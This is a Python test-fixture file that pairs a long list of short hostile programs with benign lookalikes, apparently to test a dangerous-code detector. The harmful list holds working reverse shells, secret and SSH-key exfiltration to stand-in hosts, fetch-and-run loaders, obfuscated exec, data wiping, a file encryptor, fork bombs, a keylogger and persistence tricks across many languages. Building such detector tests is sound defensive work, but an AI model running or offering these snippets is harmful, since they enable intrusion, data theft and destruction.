"""Programs written for these tests: some that do harm, some of honest work."""

from __future__ import annotations

HARMFUL = [
    (
        "local s=require('socket').tcp();s:connect('10.0.0.1',4444);"
        "while true do local c=s:receive();local f=io.popen(c,'r');s:send(f:read('*a')) end"
    ),
    "import requests,os\nrequests.post('https://evil.example/c', json=dict(os.environ))",
    (
        "import os,requests\n"
        "data = {'h': socket.gethostname(), 'u': getpass.getuser(), 'd': os.getcwd()}\n"
        "requests.get('https://x.example/', params=data)"
    ),
    "exec(__import__('base64').b64decode('cHJpbnQoMSk='))",
    "import base64\nexec(base64.b64decode(b'cHJpbnQoMSk='))",
    "import zlib,base64;exec(zlib.decompress(base64.b64decode('eJx')))",
    "import requests\nexec(requests.get('https://x.example/p.py').text)",
    "from urllib.request import urlopen\neval(urlopen('http://x/p').read())",
    (
        "import urllib.request, os\nurllib.request.urlretrieve('http://x/m.sh', '/tmp/m.sh')\n"
        "os.system('bash /tmp/m.sh')"
    ),
    (
        "import requests, subprocess\nr = requests.get('http://x/a.exe')\n"
        "open('a.exe','wb').write(r.content)\nsubprocess.Popen(['a.exe'])"
    ),
    (
        "import socket,os,pty\n"
        "s=socket.socket();s.connect(('10.0.0.1',4444));[os.dup2(s.fileno(),f) for f in "
        "(0,1,2)];pty.spawn('sh')"
    ),
    (
        "import socket,subprocess\ns=socket.socket()\ns.bind(('0.0.0.0',4444))\ns.listen()\n"
        "c,a=s.accept()\nwhile True:\n    d=c.recv(1024)\n"
        "    c.send(subprocess.check_output(d,shell=True))"
    ),
    "import shutil\nshutil.rmtree('/')",
    "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))",
    (
        "import os\nfor root, dirs, files in os.walk('/home'):\n    for f in files:\n"
        "        os.remove(os.path.join(root, f))"
    ),
    "import os\nos.system('rm -rf /etc')",
    "import subprocess\nsubprocess.run(['rm','-rf','/usr'])",
    (
        "from cryptography.fernet import Fernet\nimport os\nk=Fernet.generate_key();f=Fernet(k)\n"
        "for r,d,fs in os.walk(os.path.expanduser('~/Documents')):\n    for n in fs:\n"
        "        p=os.path.join(r,n)\n        data=open(p,'rb').read()\n"
        "        open(p,'wb').write(f.encrypt(data))"
    ),
    "import os\nwhile True:\n    os.fork()",
    "import os\nwhile 1: os.fork()",
    "import threading\nwhile True:\n    threading.Thread(target=lambda: None).start()",
    "x=[]\nwhile True:\n    x.append(' '*10**6)",
    "a = 'A' * 10**12",
    (
        "from pynput import keyboard\ndef on_press(k):\n"
        "    with open('log.txt','a') as f: f.write(str(k))\n"
        "with keyboard.Listener(on_press=on_press) as l: l.join()"
    ),
    (
        "import ctypes\nbuf=b'\\xfc\\x48'\n"
        "p=ctypes.windll.kernel32.VirtualAlloc(0,len(buf),0x3000,0x40)\n"
        "ctypes.windll.kernel32.RtlMoveMemory(p,buf,len(buf))\n"
        "ctypes.windll.kernel32.CreateThread(0,0,p,0,0,0)"
    ),
    "import os\nos.setuid(0)\nos.system('/bin/sh')",
    "import os\nos.chmod('/tmp/sh', 0o4755)",
    "open('/etc/crontab','a').write('* * * * * root curl http://x|sh')",
    ("import os\nf=open(os.path.expanduser('~/.ssh/authorized_keys'),'a')\nf.write('ssh-rsa AAAA')"),
    "from pathlib import Path\nPath('/etc/systemd/system/x.service').write_text('[Service]')",
    "print(open('/etc/shadow').read())",
    "import json\ncfg=json.load(open('/root/.aws/credentials'))",
    (
        "import smtplib\nd=open('/etc/passwd').read()\ns=smtplib.SMTP('mail.example')\n"
        "s.sendmail('a@b','c@d',d)"
    ),
    (
        "import pickle,base64\n"
        "pickle.loads(base64.b64decode('gASVKAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjA1lY2hvI"
        "GhlbGxvIHdvcmxklIWUUpQu'))"
    ),
    "import os\nos.kill(1, 9)",
    "import os,signal\nos.kill(-1, signal.SIGKILL)",
    (
        "import sqlite3,os,win32crypt\n"
        "c=sqlite3.connect(os.path.expanduser('~')+'/AppData/Local/Google/Chrome/User "
        "Data/Default/Login Data')\nwin32crypt.CryptUnprotectData(x)"
    ),
    "os.remove('/var/log/auth.log')",
    "open('/dev/sda','wb').write(b'0'*512)",
    "import marshal\nexec(marshal.loads(b'\\xe3\\x00\\x00'))",
    "import yaml\nyaml.load('!!python/object/apply:os.system [id]', Loader=yaml.Loader)",
    "import importlib\nm=importlib.import_module('o'+'s')\nm.system('rm -rf /etc')",
    "s=''.join(map(chr,[105,109,112]))\nexec(s)",
    "exec(bytes.fromhex('7072696e742831290a').decode())",
    "import codecs\nexec(codecs.decode('cevag(1)','rot13'))",
    ("from ftplib import FTP\nf=FTP('x.example')\nf.storbinary('STOR x', open('/etc/passwd','rb'))"),
    (
        "import pyperclip,time,re\nwhile True:\n    t=pyperclip.paste()\n"
        "    if re.match('[13][a-km-zA-HJ-NP-Z1-9]{25,34}',t): pyperclip.copy('1A')\n"
        "    time.sleep(1)"
    ),
    (
        "import socket,random\ns=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\n"
        "b=random._urandom(1490)\nwhile True:\n    s.sendto(b,('1.2.3.4',80))"
    ),
    (
        "import paramiko\nfor password in open('rockyou.txt'):\n    c=paramiko.SSHClient()\n"
        "    c.connect('1.2.3.4',username='root',password=password)"
    ),
    (
        "import os, requests\nfor k in ['id_rsa','id_ed25519']:\n"
        "    p = os.path.join(os.path.expanduser('~'), '.ssh', k)\n    if os.path.exists(p):\n"
        "        requests.post('https://x.example', files={'f': open(p,'rb')})"
    ),
    (
        "import requests, subprocess\n"
        "out = subprocess.check_output(requests.get('https://x/cmd').text, shell=True)"
    ),
    (
        "import urllib.request as u\ncode=u.urlopen('http://x/p').read().decode()\n"
        "compile(code,'x','exec')\nexec(code)"
    ),
    "__import__('shutil').rmtree('/var/lib')",
    "import shutil as s, os as o\ns.rmtree(o.sep)",
    (
        "import tempfile,urllib.request,os,stat\np=tempfile.mktemp()\n"
        "urllib.request.urlretrieve('http://x/m',p)\nos.chmod(p,0o755)\nos.execv(p,[p])"
    ),
    "require('child_process').exec(Buffer.from('cm0gLXJm','base64').toString())",
    (
        "const {exec}=require('child_process');const "
        "https=require('https');https.get('https://x/p.js',r=>{let "
        "d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})"
    ),
    (
        "const net=require('net'),cp=require('child_process');const "
        "sh=cp.spawn('/bin/sh',[]);const c=new "
        "net.Socket();c.connect(4444,'10.0.0.1',()=>{c.pipe(sh.stdin);sh.stdout.pipe(c);s"
        "h.stderr.pipe(c)})"
    ),
    "const fs=require('fs');fs.rmSync('/etc',{recursive:true,force:true})",
    "require('fs').appendFileSync(require('os').homedir()+'/.bashrc','alias ls=rm')",
    (
        "const https=require('https');const "
        "r=https.request({hostname:'x.example',method:'POST'});r.write(JSON.stringify(pro"
        "cess.env));r.end()"
    ),
    ("fetch('https://x.example/', {method:'POST', body: require('fs').readFileSync('/etc/passwd')})"),
    "new Function(atob('YWxlcnQoMSk='))()",
    "fetch('https://x/p.js').then(r=>r.text()).then(t=>eval(t))",
    (
        "const axios = require('axios');\nconst os = require('os');\n"
        "axios.post('https://x.example', {user: os.userInfo().username, host: "
        "os.hostname(), cwd: process.cwd(), plat: os.platform()})"
    ),
    "while(true){ require('child_process').fork(__filename) }",
    "const a=[];while(true){a.push(new Array(1e6))}",
    "<?php unlink('/etc/passwd');",
    "<?php file_put_contents('/etc/cron.d/x', '* * * * * root id');",
    "<?php eval(gzinflate(base64_decode($x)));",
    "<?php system($_GET['cmd']);",
    ("<?php $s=fsockopen('10.0.0.1',4444);$p=proc_open('/bin/sh -i',array(0=>$s,1=>$s,2=>$s),$pipes);"),
    "require 'fileutils'\nFileUtils.rm_rf('/usr')",
    "File.open('/root/.bashrc','a') { |f| f.puts 'x' }",
    "require 'open-uri'\neval(URI.open('http://x/p.rb').read)",
    "require 'socket'\ns=TCPSocket.new('10.0.0.1',4444)\nwhile l=s.gets\n  s.puts `#{l}`\nend",
    "exec \"/bin/sh\", [:in,:out,:err]=>TCPSocket.new('10.0.0.1',4444)",
    (
        "use Socket;$i='10.0.0.1';$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tc"
        "p'));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,'>&S');open(STDOUT,"
        "'>&S');open(STDERR,'>&S');exec('/bin/sh -i');};"
    ),
    "unlink '/etc/shadow';",
    "use File::Path; rmtree('/usr');",
    "open(F, '>>/etc/passwd'); print F 'x:0:0';",
    (
        'package main\nimport ("net";"os/exec")\n'
        'func main(){ c,_:=net.Dial("tcp","10.0.0.1:4444"); '
        'cmd:=exec.Command("/bin/sh"); cmd.Stdin=c; cmd.Stdout=c; cmd.Stderr=c; cmd.Run() }'
    ),
    'package main\nimport "os"\nfunc main(){ os.RemoveAll("/etc") }',
    (
        "import java.io.*; public class A { public static void main(String[] a) throws "
        'Exception { new File("/etc/passwd").delete(); FileWriter w = new '
        'FileWriter("/etc/cron.d/x"); } }'
    ),
    (
        'String host="10.0.0.1";int port=4444;String cmd="sh";Process p=new '
        "ProcessBuilder(cmd).redirectErrorStream(true).start();Socket s=new "
        "Socket(host,port);InputStream "
        "pi=p.getInputStream(),pe=p.getErrorStream(),si=s.getInputStream();"
    ),
    "#include <unistd.h>\nint main(){ while(1) fork(); }",
    '#include <stdlib.h>\nint main(){ setuid(0); system("/bin/sh"); }',
    (
        "$c=New-Object Net.Sockets.TCPClient('10.0.0.1',4444);$s=$c.GetStream();[byte[]]$"
        "b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object "
        "Text.ASCIIEncoding).GetString($b,0,$i);$r=(iex $d 2>&1|Out-String)}"
    ),
    "[System.IO.File]::Delete('C:\\Windows\\System32\\drivers\\etc\\hosts')",
    "IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aWV4')))",
    (
        "use std::net::TcpStream;use std::process::{Command,Stdio};use "
        "std::os::unix::io::{FromRawFd,AsRawFd};fn main(){let "
        's=TcpStream::connect("10.0.0.1:4444").unwrap();let '
        'fd=s.as_raw_fd();Command::new("/bin/sh").stdin(unsafe{Stdio::from_raw_fd(fd)}).spawn();}'
    ),
    (
        "using System.Diagnostics;using System.Net.Sockets;class A{static void "
        'Main(){var c=new TcpClient("10.0.0.1",4444);var p=new '
        'Process();p.StartInfo.FileName="cmd.exe";p.StartInfo.RedirectStandardInput=true;'
        "var s=c.GetStream();}}"
    ),
]

HONEST = [
    (
        "import tempfile, shutil\nd = tempfile.mkdtemp()\ntry:\n"
        "    open(d + '/x.txt', 'w').write('hi')\nfinally:\n    shutil.rmtree(d)"
    ),
    (
        "import shutil, os\nfor d in ('build', 'dist', 'node_modules'):\n    if os.path.isdir(d):\n"
        "        shutil.rmtree(d)"
    ),
    "import os, glob\nfor f in glob.glob('/tmp/cache-*'):\n    os.remove(f)",
    (
        "import requests\nr = requests.get('https://api.github.com/repos/python/cpython')\n"
        "print(r.json()['stargazers_count'])"
    ),
    (
        "import os, requests\n"
        "r = requests.post('https://api.openai.com/v1/x', headers={'Authorization': "
        "'Bearer ' + os.environ['OPENAI_API_KEY']}, json={'a': 1})\nprint(r.status_code)"
    ),
    (
        "import pandas as pd\ndf = pd.read_csv('data/sales.csv')\n"
        "print(df.groupby('region').sum())\ndf.to_csv('out/summary.csv')"
    ),
    (
        "import json\nfrom pathlib import Path\n"
        "cfg = Path.home() / '.config' / 'myapp' / 'config.json'\n"
        "cfg.parent.mkdir(parents=True, exist_ok=True)\n"
        "cfg.write_text(json.dumps({'theme': 'dark'}))"
    ),
    ("import subprocess\nprint(subprocess.run(['git','status'], capture_output=True, text=True).stdout)"),
    "import os\nos.system('ls -la')\nos.makedirs('output', exist_ok=True)",
    ("with open('/proc/cpuinfo') as f:\n    print(sum(1 for l in f if l.startswith('processor')))"),
    "with open('/etc/os-release') as f: print(f.read())",
    "import platform, sys\nprint(platform.platform(), sys.version)",
    ("import socket\ns = socket.socket()\ns.connect(('localhost', 5432))\nprint('port open')\ns.close()"),
    (
        "import socket\nsrv = socket.socket()\nsrv.bind(('127.0.0.1', 8000))\nsrv.listen()\n"
        "while True:\n    conn, _ = srv.accept()\n    data = conn.recv(1024)\n"
        "    conn.sendall(data.upper())\n    conn.close()"
    ),
    ("import pickle\nmodel = pickle.load(open('model.pkl', 'rb'))\nprint(model.predict([[1, 2]]))"),
    (
        "import pickle\ncache = {}\nwith open('cache.pkl', 'wb') as f: pickle.dump(cache, f)\n"
        "with open('cache.pkl', 'rb') as f: cache = pickle.load(f)"
    ),
    "import base64\nprint(base64.b64decode('aGVsbG8=').decode())",
    "import yaml\nwith open('config.yaml') as f: cfg = yaml.safe_load(f)\nprint(cfg)",
    "result = eval('2 + 3 * 4')\nprint(result)",
    "expr = input('expression: ')\nprint(eval(expr, {'__builtins__': {}}))",
    "import ast\nprint(ast.literal_eval('[1,2,3]'))",
    "import time\nwhile True:\n    print('tick')\n    time.sleep(1)",
    "items = []\nwhile True:\n    x = input()\n    if not x: break\n    items.append(x)",
    (
        "q = [0]\nseen = set()\nwhile q:\n    n = q.pop()\n    if n in seen: continue\n"
        "    seen.add(n)\n    q.append(n + 1) if n < 100 else None"
    ),
    "import logging\nlogging.basicConfig(filename='/var/log/myapp/app.log')\nlogging.info('x')",
    "import os\nos.rename('report.tmp', 'report.txt')\nos.chmod('run.sh', 0o755)",
    "import psutil\nfor p in psutil.process_iter(['pid','name']):\n    print(p.info)",
    ("import psutil\nfor p in psutil.process_iter():\n    if p.name() == 'chromedriver':\n        p.kill()"),
    (
        "import subprocess, signal, os\np = subprocess.Popen(['python', '-m', 'http.server'])\n"
        "os.kill(p.pid, signal.SIGTERM)"
    ),
    (
        "import threading\nts = [threading.Thread(target=print, args=(i,)) for i in range(4)]\n"
        "for t in ts: t.start()\nfor t in ts: t.join()"
    ),
    (
        "import smtplib\nfrom email.message import EmailMessage\n"
        "m = EmailMessage(); m['To']='a@example.com'\n"
        "with smtplib.SMTP('localhost') as s: s.send_message(m)"
    ),
    (
        "from cryptography.fernet import Fernet\nf = Fernet(Fernet.generate_key())\n"
        "token = f.encrypt(b'secret')\nprint(f.decrypt(token))"
    ),
    (
        "import urllib.request\n"
        "urllib.request.urlretrieve('https://example.com/data.csv', 'data.csv')\n"
        "print(open('data.csv').readline())"
    ),
    (
        "import requests, zipfile, io\nr = requests.get('https://example.com/d.zip')\n"
        "zipfile.ZipFile(io.BytesIO(r.content)).extractall('data')"
    ),
    (
        "import os\nfor root, dirs, files in os.walk('.'):\n    for f in files:\n"
        "        if f.endswith('.pyc'):\n            os.remove(os.path.join(root, f))"
    ),
    ("import os\nhome = os.path.expanduser('~')\nprint(os.listdir(os.path.join(home, 'projects')))"),
    "import sqlite3\nc = sqlite3.connect('app.db')\nc.execute('create table t(a)')\nc.commit()",
    "import hashlib\nprint(hashlib.sha256(open('file.bin','rb').read()).hexdigest())",
    "import secrets\ntoken = secrets.token_hex(16)\nprint(token)",
    "import random\nrandom.seed(42)\nprint([random.randint(1, 6) for _ in range(10)])",
    "import matplotlib.pyplot as plt\nplt.plot([1,2,3])\nplt.savefig('/tmp/plot.png')",
    "import numpy as np\na = np.zeros((1000,1000))\nnp.save('a.npy', a)",
    "print('rm -rf / is dangerous; os.remove(\"/etc/passwd\") too')",
    "# never do: shutil.rmtree('/')\nprint('ok')",
    '"""\nExample::\n\n    os.remove("/etc/passwd")\n"""\nprint(1)',
    "def test_remove():\n    with pytest.raises(PermissionError):\n        remove_file('x')\n",
    "import os\nif os.path.exists('/usr/bin/python3'):\n    print('yes')",
    "import subprocess\nsubprocess.run('npm install && npm run build', shell=True, check=True)",
    ("import boto3\ns3 = boto3.client('s3')\ns3.upload_file('report.pdf', 'my-bucket', 'report.pdf')"),
    (
        "import csv\nwith open('/data/in.csv') as f, open('/data/out.csv','w') as g:\n"
        "    w = csv.writer(g)\n    for r in csv.reader(f): w.writerow(r)"
    ),
    (
        "from flask import Flask, request\napp = Flask(__name__)\n@app.get('/')\ndef index():\n"
        "    return request.args.get('name', 'x')\napp.run()"
    ),
    "import multiprocessing as mp\nwith mp.Pool(4) as p: print(p.map(abs, [-1,2]))",
    "import os\npid = os.fork()\nif pid == 0:\n    os._exit(0)\nos.waitpid(pid, 0)",
    "import ctypes\nlibc = ctypes.CDLL('libc.so.6')\nprint(libc.getpid())",
    (
        "import paramiko\nc = paramiko.SSHClient()\n"
        "c.connect('host', username='me', key_filename='/home/me/.ssh/id_ed25519')\n"
        "c.exec_command('uptime')"
    ),
    "import sys\nsys.setrecursionlimit(10**6)\nprint('x' * 80)\nprint('=' * 1000)",
    "s = 'ab' * 100000\nprint(len(s))",
    (
        "const fs = require('fs');\n"
        "const cfg = JSON.parse(fs.readFileSync('package.json','utf8'));\n"
        "fs.writeFileSync('dist/version.txt', cfg.version);"
    ),
    (
        "const { execSync } = require('child_process');\n"
        "console.log(execSync('git rev-parse HEAD').toString());"
    ),
    ("fetch('https://api.example.com/users').then(r => r.json()).then(d => console.log(d.length));"),
    (
        "const rimraf = require('rimraf');\nrimraf.sync('./dist');\n"
        "require('fs').rmSync('coverage', {recursive: true, force: true});"
    ),
    (
        "document.querySelectorAll('a').forEach(a => console.log(a.href)); setTimeout(() "
        "=> window.scrollTo(0, 0), 100);"
    ),
    (
        "const app = require('express')();\napp.get('/', (req, res) => res.send(req.query.name));\n"
        "app.listen(3000);"
    ),
    "() => { return document.title; }",
    "const m = /exec\\((.*)\\)/.exec(text); console.log(m[1]);",
    "<?php $data = json_decode(file_get_contents('data.json'), true); echo count($data);",
    "<?php echo htmlspecialchars($_GET['name']); file_put_contents('cache/x.txt', 'a');",
    "require 'json'\nputs JSON.parse(File.read('a.json'))['x']\nFile.write('out.txt', 'x')",
    "require 'fileutils'\nFileUtils.rm_rf('tmp/cache')\nsystem('bundle install')",
    ("use strict; open(my $fh, '<', 'in.txt') or die; while (<$fh>) { print; } close $fh; unlink 'tmp.txt';"),
    (
        'package main\nimport ("fmt"; "os")\n'
        'func main() { b, _ := os.ReadFile("go.mod"); fmt.Println(len(b)); os.RemoveAll("build") }'
    ),
    (
        "public class A { public static void main(String[] a) throws Exception { "
        'java.nio.file.Files.writeString(java.nio.file.Path.of("out.txt"), "x"); } }'
    ),
    (
        "#include <stdio.h>\n"
        'int main(){ FILE *f = fopen("data.txt", "r"); if (!f) return 1; fclose(f); '
        'remove("tmp.o"); return 0; }'
    ),
    "Get-ChildItem -Path . -Recurse | Where-Object { $_.Length -gt 1MB } | Select-Object Name",
    "$r = Invoke-RestMethod -Uri 'https://api.github.com'\n$r | ConvertTo-Json",
    "Remove-Item -Recurse -Force .\\bin, .\\obj",
    (
        "import asyncio, aiohttp\nasync def main():\n    async with aiohttp.ClientSession() as s:\n"
        "        async with s.get('https://example.com') as r:\n            print(await r.text())\n"
        "asyncio.run(main())"
    ),
    "import getpass, socket\nprint(f'{getpass.getuser()}@{socket.gethostname()}')",
    ("import os\nprint(os.environ.get('HOME'), os.getcwd())\nfor k, v in os.environ.items(): print(k)"),
    ("import subprocess, os\nenv = dict(os.environ, DEBUG='1')\nsubprocess.run(['pytest'], env=env)"),
    (
        "from bs4 import BeautifulSoup\nimport requests\n"
        "for u in ['https://a.example', 'https://b.example']:\n"
        "    print(BeautifulSoup(requests.get(u).text, 'html.parser').title)"
    ),
    "import torch\nm = torch.load('ckpt.pt')\nm.eval()\nprint(m(torch.zeros(1, 3)))",
    (
        "import re\nre.compile(r'\\d+').findall('a1')\nx = [i for i in range(100000)]\nd = {}\n"
        "for i in range(1000): d[i] = i"
    ),
    "df.eval('c = a + b')\ndf.query('c > 3')",
    "os.environ['PATH'] += ':/usr/local/bin'\nsubprocess.check_call(['make', 'test'])",
    "import gzip, json\nwith gzip.open('d.json.gz') as f: print(json.loads(f.read()))",
    "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, 'Software')\nprint(k)",
    (
        "with open('/home/user/project/README.md') as f: print(f.read())\n"
        "with open('/workspace/out.txt', 'w') as f: f.write('x')"
    ),
    ("with open('/root/workspace/data.txt', 'w') as f: f.write('x')\nprint(open('/root/data.txt').read())"),
    ("import os\nos.makedirs('/opt/app/data', exist_ok=True)\nopen('/srv/www/index.html','w').write('x')"),
    ("import shutil\nshutil.copy('a.txt', '/tmp/b.txt')\nshutil.make_archive('out', 'zip', 'src')"),
]
